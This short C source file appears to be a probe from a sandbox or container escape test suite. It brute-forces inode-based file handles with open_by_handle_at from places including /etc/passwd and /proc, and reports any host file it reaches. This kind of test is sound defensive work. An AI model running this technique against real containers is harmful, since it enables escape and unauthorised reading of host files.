/* Opens files of the host by their inode numbers, which needs no path. */
#include "lib/hostile.h"

int main(int argc, char **argv) {
  guard(argc, argv);
  struct { struct file_handle handle; char bytes[128]; } at;
  const char *places[] = {"/", "/tmp", "/usr", "/etc/passwd", ".", "/proc", "/dev"};
  for (int place = 0; place < 7; place++) {
    int mount_id, from = open(places[place], O_RDONLY);
    at.handle.handle_bytes = 128;
    if (from < 0 || name_to_handle_at(AT_FDCWD, places[place], &at.handle, &mount_id, 0)) continue;
    for (int inode = 1; inode < 40; inode++) {
      unsigned guess[2] = {inode, 0};
      memcpy(at.handle.f_handle, guess, sizeof guess);
      at.handle.handle_bytes = 8, at.handle.handle_type = 1;
      int file = open_by_handle_at(from, &at.handle, O_RDONLY);
      if (file >= 0) reached("inode %d at %s", inode, places[place]);
    }
  }
  play_on(NULL);
}
